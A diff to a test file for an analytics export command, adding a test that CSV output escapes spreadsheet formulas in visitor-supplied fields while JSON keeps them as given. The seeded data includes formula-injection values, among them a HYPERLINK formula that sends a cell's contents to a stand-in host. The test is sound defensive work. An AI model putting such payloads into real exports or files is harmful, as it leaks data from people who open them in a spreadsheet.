@@ -86,7 +86,17 @@ beforeAll(async () => {
     );
     if (at % 200 === 0) await turn();
   }
-  analytics.sink.record(sampleEvent({ organisation: 'other', ip: '198.51.100.1' }));
+  analytics.sink.record(
+    sampleEvent({
+      organisation: 'other',
+      ip: '198.51.100.1',
+      userAgent: '=HYPERLINK("https://a.example/"&A1,"=x")',
+      method: '＝1',
+      query: '@a\n"=b",=c',
+      host: '',
+      path: '"=x',
+    }),
+  );
   await until('all rows are there', async () => {
     const outcome = await analytics.runQuery({
       organisation: 'acme',
@@ -268,6 +278,18 @@ test('a key exports the rows of its own organisation and no other', async () => 
     '2m',
   );
   expect(tried.stdout).not.toContain('other');
+});
+
+test('in CSV no text of a visitor is a formula for a spreadsheet, and other formats have it as it is', async () => {
+  const args = ['--key', 'sk_api_ro_other', '--columns', 'user_agent,method,query,host,path,ip'];
+  const { stdout, stderr } = await guardExport(...args, '--format', 'csv');
+  expect(stdout.slice(stdout.indexOf('\n') + 1)).toBe(
+    `"'=HYPERLINK(""https://a.example/""&A1,""=x"")","'＝1","'@a\n""=b"",=c","","""=x","198.51.100.1"\n`,
+  );
+  expect(stderr).toMatch(/^1 row, /);
+  expect(JSON.parse((await guardExport(...args)).stdout)).toMatchObject({
+    user_agent: '=HYPERLINK("https://a.example/"&A1,"=x")',
+  });
 });
 
 test.each([
